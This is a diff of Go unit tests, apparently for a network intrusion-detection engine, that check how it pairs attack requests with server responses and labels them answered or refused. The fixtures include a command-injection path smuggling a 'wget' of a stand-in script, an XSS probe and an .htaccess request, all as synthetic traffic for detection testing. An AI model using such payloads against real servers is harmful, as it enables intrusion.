@@ -189,8 +189,101 @@ func TestOutcome(t *testing.T) {
 	}
 }
 
+// TestOutcomeOfConnections: an answer is to the connection that asked, and a
+// status to the request before it.
+func TestOutcomeOfConnections(t *testing.T) {
+	const attacker = "198.51.100.9"
+	ms := func(n int, f Frame) Stamped {
+		return Stamped{Time: Start.Add(time.Duration(n) * time.Millisecond), Frame: f}
+	}
+	rce, xss, config := "/x?q=;wget%20http:/a.example/x.sh", "/x?q=<script>alert(1)</script>", "/a/.htaccess"
+	asks := func(at int, port uint16, target string) Stamped {
+		return ms(at, eth(attacker, web, Data(port, 80, Get("shop.example", target))))
+	}
+	says := func(at int, port uint16, status string) Stamped {
+		return ms(at, eth(web, attacker, Data(80, port, "HTTP/1.1 "+status+"\r\nContent-Type: text/html\r\n\r\nx")))
+	}
+	acknowledges := func(at int, port uint16) Stamped { return ms(at, eth(web, attacker, TCP(80, port, ACK, ""))) }
+	resets := func(at int, port uint16) Stamped { return ms(at, eth(web, attacker, TCP(80, port, RST|ACK, ""))) }
+	for _, c := range []struct {
+		name   string
+		frames []Stamped
+		want   []string // code, outcome, status of each follow-up
+		more   []string // when nothing is folded
+	}{
+		{"three at once", []Stamped{asks(0, 51000, rce), asks(1, 51001, xss), asks(2, 51002, config), acknowledges(3, 51000), resets(4, 51002), says(5, 51001, "403 Forbidden"), says(6, 51000, "200 OK")},
+			[]string{"http.rce answered 200", "http.xss answered 403", "http.config refused 0"}, nil},
+		{"one after another", []Stamped{asks(0, 51000, rce), says(5, 51000, "200 OK"), asks(3000, 51001, xss), says(3005, 51001, "403 Forbidden"), asks(6000, 51002, config), resets(6005, 51002)},
+			[]string{"http.rce answered 200", "http.xss answered 403", "http.config refused 0"}, nil},
+		{"on one connection", []Stamped{asks(0, 51000, rce), acknowledges(3, 51000), says(5, 51000, "200 OK"), asks(9, 51000, xss), acknowledges(12, 51000), says(15, 51000, "403 Forbidden"),
+			asks(20, 51000, config), resets(25, 51000)}, []string{"http.rce answered 200", "http.xss answered 403", "http.config refused 0"}, nil},
+		{"on one connection, a response was missed", []Stamped{asks(0, 51000, rce), acknowledges(3, 51000), asks(9, 51000, xss), says(15, 51000, "403 Forbidden")},
+			[]string{"http.rce answered 0", "http.xss answered 403"}, nil},
+		{"go on", []Stamped{asks(0, 51000, rce), says(3, 51000, "100 Continue"), says(5, 51000, "200 OK")}, []string{"http.rce answered 200"}, nil},
+		{"the same again does not hide it", []Stamped{asks(0, 51000, rce), says(5, 51000, "200 OK"), asks(9, 51001, rce), says(15, 51001, "404 Not Found")}, []string{"http.rce answered 200"}, []string{"http.rce answered 404"}},
+	} {
+		for _, window := range []time.Duration{time.Minute, 0} {
+			for _, workers := range []int{1, 4} {
+				var got []string
+				for _, e := range second(told(t, &Case{Frames: append(c.frames, At(90, eth(client, web, Data(50100, 443, "later"))))}, window, workers)) {
+					if e.Aggregate.Summary {
+						got = append(got, fmt.Sprintf("%s %s %d", e.Code, e.Outcome, e.HTTP.Status))
+					}
+				}
+				if window == 0 { // in the order of their answers
+					c.want = append(c.want, c.more...)
+					c.more = nil
+					slices.Sort(c.want)
+					slices.Sort(got)
+				}
+				if !slices.Equal(got, c.want) {
+					t.Errorf("%s, window %v, %d workers:\n%s\nwant\n%s", c.name, window, workers, strings.Join(got, "\n"), strings.Join(c.want, "\n"))
+				}
+			}
+		}
+	}
+}
+
+// TestOutcomeAfterRefusal: what is refused first and answered then got through.
+func TestOutcomeAfterRefusal(t *testing.T) {
+	const bad = "66.66.66.66"
+	ms := func(n int, p Packet) Stamped {
+		return Stamped{Time: Start.Add(time.Duration(n) * time.Millisecond), Frame: p.Ethernet()}
+	}
+	syn := IP(client, bad, Syn(50001, 443))
+	back := func(flags uint8) Packet { return IP(bad, client, TCP(443, 50001, flags, "")) }
+	q := Query(Ask("evil-test-domain.com"))
+	ask := func(port uint16) Packet { return IP(client, resolver, UDP(port, 53, q)) }
+	say := func(port uint16, reply string) Packet { return IP(resolver, client, UDP(53, port, reply)) }
+	for _, c := range []struct {
+		name   string
+		frames []Stamped
+		want   []string
+		each   []string // when nothing is folded; nil: the same
+	}{
+		{"an RST that is made up, then the handshake", []Stamped{ms(0, syn), ms(20, back(RST)), ms(40, back(SYN|ACK))}, []string{"trail.ip 66.66.66.66 x1", "trail.ip 66.66.66.66 x0 answered"}, nil},
+		{"another try after 500 ms", []Stamped{ms(0, syn), ms(20, back(RST|ACK)), ms(520, syn), ms(540, back(SYN|ACK))}, []string{"trail.ip 66.66.66.66 x1", "trail.ip 66.66.66.66 x0 answered"}, nil},
+		{"refused again and again", []Stamped{ms(0, syn), ms(20, back(RST|ACK)), ms(520, syn), ms(540, back(RST|ACK))}, []string{"trail.ip 66.66.66.66 x1", "trail.ip 66.66.66.66 x0 refused"}, nil},
+		{"SERVFAIL, then the answer", []Stamped{ms(0, ask(50000)), ms(20, say(50000, Reply(2, q))), ms(30, ask(50001)), ms(300, say(50001, Answered(q, "192.0.2.7")))},
+			[]string{"trail.dns evil-test-domain.com x1", "trail.dns evil-test-domain.com x1 answered rcode 0 192.0.2.7"},
+			[]string{"trail.dns evil-test-domain.com x1", "trail.dns evil-test-domain.com x1", "trail.dns evil-test-domain.com x0 answered rcode 0 192.0.2.7", "trail.dns evil-test-domain.com x0 answered rcode 0 192.0.2.7"}},
+		{"an error that is made up, then the answer", []Stamped{ms(0, ask(50000)), ms(20, say(50000, Reply(3, q))), ms(30, say(50000, Answered(q, "192.0.2.7")))},
+			[]string{"trail.dns evil-test-domain.com x1", "trail.dns evil-test-domain.com x0 answered rcode 0 192.0.2.7"}, nil},
+	} {
+		for _, window := range []time.Duration{time.Minute, 0} {
+			got, _ := told(t, &Case{Trails: fixture, Frames: c.frames}, window, 1)
+			if window == 0 && c.each != nil {
+				c.want = c.each
+			}
+			if !slices.Equal(got, c.want) {
+				t.Errorf("%s, window %v:\n%s\nwant\n%s", c.name, window, strings.Join(got, "\n"), strings.Join(c.want, "\n"))
+			}
+		}
+	}
+}
+
 // TestOutcomeOfEach: without windows each event has a follow-up of its own, when
-// the answer comes or after a minute.
+// it is answered or after a minute.
 func TestOutcomeOfEach(t *testing.T) {
 	const bad, other = "66.66.66.66", "93.184.216.34"
 	syn := func(port uint16) Frame { return eth(client, bad, Syn(port, 80)) }
@@ -200,15 +293,15 @@ func TestOutcomeOfEach(t *testing.T) {
 		At(5, syn(50003)), At(6, eth(bad, client, TCP(80, 50003, RST, ""))),
 		At(10, query("evil-test-domain.com")), At(11, syn(50004)), At(75, eth(client, other, Data(1, 2, "later"))),
 	}}
-	want := []string{ip + "1", ip + "1", ip + "0 answered", ip + "0 answered", ip + "1", ip + "0 refused", "trail.dns evil-test-domain.com x1", ip + "1",
-		"trail.dns evil-test-domain.com x0 attempted", ip + "0 attempted"}
+	want := []string{ip + "1", ip + "1", ip + "0 answered", ip + "1", "trail.dns evil-test-domain.com x1", ip + "1",
+		ip + "0 attempted", ip + "0 refused", "trail.dns evil-test-domain.com x0 attempted", ip + "0 attempted"}
 	for _, workers := range []int{1, 2, 4, 8} {
 		got, events := told(t, &c, 0, workers)
 		if !slices.Equal(got, want) {
 			t.Errorf("%d workers:\n%s\nwant\n%s", workers, strings.Join(got, "\n"), strings.Join(want, "\n"))
 			continue
 		}
-		for i, of := range map[int]int{2: 0, 3: 1, 5: 4, 8: 6, 9: 7} {
+		for i, of := range map[int]int{2: 0, 6: 1, 7: 3, 8: 4, 9: 5} {
 			if e := &events[i]; e.Aggregate.ID != events[of].ID || !e.Aggregate.Summary || e.Src != events[of].Src || !e.Time.Equal(events[of].Time) {
 				t.Errorf("%d: follow-up of %s is %+v", i, line(&events[of]), e.Aggregate)
 			}
